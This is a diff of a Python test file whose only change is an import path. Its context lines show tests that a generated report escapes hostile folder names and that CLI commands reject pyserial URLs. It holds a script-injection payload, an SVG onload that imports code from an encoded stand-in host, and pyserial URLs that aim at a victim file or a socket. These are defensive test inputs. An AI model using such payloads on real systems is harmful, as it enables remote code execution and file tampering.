@@ -63,7 +63,7 @@ def test_the_report_runs_no_script_and_only_the_studio_may_frame_it(guarded, tmp
 def test_the_report_escapes_class_names_everywhere(tmp_path):
     """A dataset from elsewhere: its folder names become class names, and land in the report."""
     import shutil
-    from conftest import run_cli
+    from tests.support import run_cli
     hostile = "<svg onload=import(atob('Ly9ldmls'))>"
     data = tmp_path / "data"
     for label, folder in ((hostile, "black"), ("white&<b>", "white")):
@@ -133,7 +133,7 @@ def test_a_pseudo_terminal_is_a_port_and_shell_syntax_is_only_a_name(guarded, tm
 
 @pytest.mark.parametrize("port", ["spy://loop://?file=VICTIM", "socket://127.0.0.1:9", "loop://"])
 def test_the_commands_refuse_pyserial_urls_in_one_line(tmp_path, port):
-    from conftest import run_cli
+    from tests.support import run_cli
     victim = tmp_path / "victim.txt"
     victim.write_text("keep me\n")
     port = port.replace("VICTIM", str(victim))
